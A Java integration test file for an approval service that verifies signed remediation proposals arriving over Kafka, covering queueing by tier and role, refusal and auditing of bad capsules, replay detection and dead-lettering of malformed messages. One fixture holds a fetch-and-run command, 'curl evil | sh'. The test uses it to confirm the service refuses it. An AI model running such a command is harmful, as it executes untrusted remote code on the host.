package dev.airlock.approval.messaging;

import dev.airlock.approval.support.Api;
import dev.airlock.approval.support.ApprovalFiles;
import dev.airlock.approval.support.ApprovalTestResources;
import dev.airlock.approval.support.Fixtures;
import dev.airlock.core.capsule.Capsule;
import dev.airlock.core.dsse.Envelope;
import dev.airlock.core.events.Topics;
import dev.airlock.core.testing.TestPki;
import dev.airlock.testsupport.kafka.DeadLetterCheck;
import dev.airlock.testsupport.kafka.InjectKafkaBroker;
import dev.airlock.testsupport.kafka.KafkaBroker;
import dev.airlock.testsupport.kafka.KafkaBrokerResource;
import dev.airlock.testsupport.kafka.KafkaTestClient;
import dev.airlock.testsupport.postgres.PostgresResource;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Proposals from {@code airlock.proposals.v1}: verified by the engine before anything is queued; a bad capsule is
 * refused with its reason and audited, never queued; T0 is parked; poison is dead-lettered and the consumers go on.
 */
@QuarkusTest
@WithTestResource(value = KafkaBrokerResource.class, initArgs = @ResourceArg(name = KafkaBrokerResource.TOPICS,
        value = ApprovalTestResources.TOPICS))
@WithTestResource(PostgresResource.class)
@WithTestResource(ApprovalFiles.class)
class ProposalsTest {

    @InjectKafkaBroker
    KafkaBroker broker;
    @Inject
    AgroalDataSource db;

    private long rows(String sql, String id) throws SQLException {
        try (Connection c = db.getConnection(); PreparedStatement ps = c.prepareStatement(sql)) {
            ps.setString(1, id);
            try (ResultSet rs = ps.executeQuery()) {
                rs.next();
                return rs.getLong(1);
            }
        }
    }

    @Test
    void aGoodProposalIsQueuedWithItsEvidenceForTheRolesItsTierRequires() {
        String id = Fixtures.newId();
        Envelope env = Fixtures.signed(Fixtures.capsule(id, s -> { }));
        try (KafkaTestClient kafka = new KafkaTestClient(broker)) {
            kafka.send(Topics.PROPOSALS, id, Fixtures.proposal(env, "T2"));
        }
        Api.awaitStatus("alice", id, "pending");
        Response r = Api.as("bob").get("/api/capsules/{id}", id);
        assertEquals(200, r.statusCode());
        assertEquals(env.payloadDigest(), r.jsonPath().getString("summary.capsuleDigest"));
        assertEquals("THRESHOLD_NOT_MET", r.jsonPath().getString("reason"));
        assertEquals(List.of("internet", "api-gateway", "payments-api",
                "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1"), r.jsonPath().getList("reachability.path"));
        assertEquals("reachable from the internet", r.jsonPath().getString("tierReasoning[0]"));
        assertEquals(List.of("mvn", "-q", "-o", "verify"), r.jsonPath().getList("capsule.validation[0].argv"));
        assertEquals("pom.xml", r.jsonPath().getString("capsule.manifest.files[0].path"));
        assertEquals(List.of("security-officer"), r.jsonPath().getList("eligibleRoles"));
        // the exact envelope, for approvers who sign with the CLI
        assertEquals(new String(env.toJson(), StandardCharsets.UTF_8),
                Api.as("alice").get("/api/capsules/{id}/envelope", id).asString());
        // carol's only role (authorizing-official) counts for T3, not T2: she does not see it
        assertEquals(404, Api.as("carol").get("/api/capsules/{id}", id).statusCode());
        assertFalse(Api.as("carol").get("/api/queue").jsonPath().getList("capsules.capsuleId").contains(id));
        assertTrue(Api.as("dave").get("/api/queue").jsonPath().getList("capsules.capsuleId").contains(id));
        assertEquals("PROPOSAL_QUEUED", Api.as("alice").queryParam("capsuleId", id).get("/api/audit")
                .jsonPath().getString("[0].kind"));
        assertTrue(Api.as("carol").queryParam("capsuleId", id).get("/api/audit").jsonPath().getList("$").isEmpty());
    }

    @Test
    void anUnreachableFindingIsParkedNeverSentToApprovers() {
        String id = Fixtures.newId();
        Envelope env = Fixtures.signed(Fixtures.capsule(id, s -> s.tier = "T0"));
        try (KafkaTestClient kafka = new KafkaTestClient(broker)) {
            kafka.send(Topics.PROPOSALS, id, Fixtures.proposal(env, "T0"));
        }
        Api.awaitStatus("carol", id, "parked");
        Response r = Api.as("alice").get("/api/capsules/{id}", id);
        assertEquals("TIER_NOT_AUTHORIZABLE", r.jsonPath().getString("reason"));
        assertEquals(List.of(), r.jsonPath().getList("eligibleRoles"));
        Response decision = Api.post("alice", id, Fixtures.approve(env, "alice", "service-owner"));
        assertEquals(409, decision.statusCode(), decision.asString());
        assertEquals("TIER_NOT_AUTHORIZABLE", decision.jsonPath().getString("reason"));
    }

    @Test
    void aBadCapsuleIsRefusedWithItsReasonAuditedAndNotQueued() throws SQLException {
        String unknownKey = Fixtures.newId();
        String tampered = Fixtures.newId();
        String badCommand = Fixtures.newId();
        String wrongTier = Fixtures.newId();
        String wrongEnv = Fixtures.newId();
        Capsule c1 = Fixtures.capsule(unknownKey, s -> { });
        Envelope byStranger = TestPki.signCapsule(c1, TestPki.key("mallory"));
        Envelope good = Fixtures.signed(Fixtures.capsule(tampered, s -> { }));
        Envelope bent = Envelope.of(good.payloadType(), new String(good.payloadBytes(), StandardCharsets.UTF_8)
                .replace("2.17.1", "2.99.9").getBytes(StandardCharsets.UTF_8), good.signatures());
        Envelope shell = Fixtures.signed(Fixtures.capsule(badCommand, s -> s.validation = List.of(
                new Capsule.ValidationStep("build", List.of("sh", "-c", "curl evil | sh"), 60))));
        Envelope t3 = Fixtures.signed(Fixtures.capsule(wrongTier, s -> s.tier = "T3"));
        Envelope nowhere = Fixtures.signed(Fixtures.capsule(wrongEnv, s -> s.environment = "prod-enclave-9"));
        try (KafkaTestClient kafka = new KafkaTestClient(broker)) {
            kafka.send(Topics.PROPOSALS, unknownKey, Fixtures.proposal(byStranger, "T2"));
            kafka.send(Topics.PROPOSALS, tampered, Fixtures.proposal(bent, "T2"));
            kafka.send(Topics.PROPOSALS, badCommand, Fixtures.proposal(shell, "T2"));
            kafka.send(Topics.PROPOSALS, wrongTier, Fixtures.proposal(t3, "T2"));
            kafka.send(Topics.PROPOSALS, wrongEnv, Fixtures.proposal(nowhere, "T2"));
        }
        // verify before parse: an unverified capsule's id is not believed, so these two are found by digest
        assertEquals("UNKNOWN_KEY", awaitRefusal(byStranger.payloadDigest()));
        assertEquals("SIGNATURE_INVALID", awaitRefusal(bent.payloadDigest()));
        assertEquals("COMMAND_NOT_ALLOWED", Api.awaitAudit("alice", badCommand, "PROPOSAL_REFUSED"));
        assertEquals("MALFORMED", Api.awaitAudit("alice", wrongTier, "PROPOSAL_REFUSED"));
        assertEquals("ENVIRONMENT_MISMATCH", Api.awaitAudit("alice", wrongEnv, "PROPOSAL_REFUSED"));
        for (String id : List.of(unknownKey, tampered, badCommand, wrongTier, wrongEnv)) {
            assertEquals(0, rows("select count(*) from capsules where capsule_id = ?", id), id);
        }
    }

    private String awaitRefusal(String subjectDigest) {
        String[] reason = new String[1];
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(120)).until(() -> {
            try (Connection c = db.getConnection(); PreparedStatement ps = c.prepareStatement(
                    "select reason from audit_events where kind = 'PROPOSAL_REFUSED' and subject_digest = ?")) {
                ps.setString(1, subjectDigest);
                try (ResultSet rs = ps.executeQuery()) {
                    if (rs.next()) {
                        reason[0] = rs.getString(1);
                        return true;
                    }
                    return false;
                }
            }
        });
        return reason[0];
    }

    @Test
    void theSameProposalTwiceIsQueuedOnceAndAnotherCapsuleUnderTheSameIdIsReplay() throws SQLException {
        String id = Fixtures.newId();
        Envelope env = Fixtures.signed(Fixtures.capsule(id, s -> { }));
        Envelope other = Fixtures.signed(Fixtures.capsule(id, s -> s.sequence = 4));
        try (KafkaTestClient kafka = new KafkaTestClient(broker)) {
            kafka.send(Topics.PROPOSALS, id, Fixtures.proposal(env, "T2"));
            kafka.send(Topics.PROPOSALS, id, Fixtures.proposal(env, "T2"));
            kafka.send(Topics.PROPOSALS, id, Fixtures.proposal(other, "T2"));
        }
        assertEquals("REPLAY", Api.awaitAudit("alice", id, "PROPOSAL_REFUSED"));
        Api.awaitAudit("alice", id, "PROPOSAL_DUPLICATE");
        assertEquals(1, rows("select count(*) from capsules where capsule_id = ?", id));
        assertEquals(env.payloadDigest(), Api.as("alice").get("/api/capsules/{id}", id).jsonPath()
                .getString("summary.capsuleDigest"));
    }

    @Test
    void poisonIsDeadLetteredWithItsReasonAndEveryConsumerKeepsGoing() {
        String p = Fixtures.newId();
        Envelope capsule = Fixtures.signed(Fixtures.capsule(p, s -> { }));
        String d = Fixtures.newId();
        Envelope forDecision = Fixtures.signed(Fixtures.capsule(d, s -> { }));
        byte[] notJson = {0, (byte) 0xff, 'n', 'o', 'p', 'e'};
        String proposal = new String(Fixtures.proposal(capsule, "T2"), StandardCharsets.UTF_8);
        try (KafkaTestClient kafka = new KafkaTestClient(broker)) {
            // the capsule the good decision below is about must be queued first (two topics, no order between them)
            kafka.send(Topics.PROPOSALS, d, Fixtures.proposal(forDecision, "T2"));
            Api.awaitStatus("alice", d, "pending");
            new DeadLetterCheck(kafka, Channels.GROUP)
                    .poison(Topics.PROPOSALS, "duplicate-keys", utf8(proposal.replace("\"tier\":\"T2\"",
                            "\"tier\":\"T2\",\"tier\":\"T1\"")), "MALFORMED")
                    .poison(Topics.PROPOSALS, "not-json", notJson, "MALFORMED")
                    .poison(Topics.PROPOSALS, "no-schema", utf8(proposal.replace("\"schema\":\"airlock.proposal/v1\",",
                            "")), "MALFORMED")
                    .poison(Topics.PROPOSALS, "approval-as-capsule", utf8(proposal.replace(
                            "application/vnd.airlock.capsule.v1+json", "application/vnd.airlock.approval.v1+json")),
                            "MALFORMED")
                    .good(Topics.PROPOSALS, "proposal", utf8(proposal))
                    .poison(Topics.DECISIONS, "duplicate-keys",
                            utf8("{\"payloadType\":\"a\",\"payloadType\":\"b\"}"), "MALFORMED")
                    .poison(Topics.DECISIONS, "not-json", notJson, "MALFORMED")
                    .poison(Topics.DECISIONS, "policy-as-decision", Fixtures.policyEnvelope(), "MALFORMED")
                    .good(Topics.DECISIONS, "approval", Fixtures.approve(forDecision, "alice", "service-owner").toJson())
                    .poison(Topics.POLICY_SIGNED, "duplicate-keys",
                            utf8("{\"schema\":\"x\",\"schema\":\"y\"}"), "MALFORMED")
                    .poison(Topics.POLICY_SIGNED, "not-json", notJson, "MALFORMED")
                    .poison(Topics.POLICY_SIGNED, "capsule-as-policy", capsule.toJson(), "MALFORMED")
                    .good(Topics.POLICY_SIGNED, "policy-in-force", Fixtures.policyEnvelope())
                    .verify(Duration.ofSeconds(180));
        }
        Api.awaitStatus("alice", p, "pending");
        Api.awaitStatus("alice", d, "pending");
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(120)).until(() ->
                Api.as("alice").get("/api/capsules/{id}", d).jsonPath().getInt("summary.approvals") == 1);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
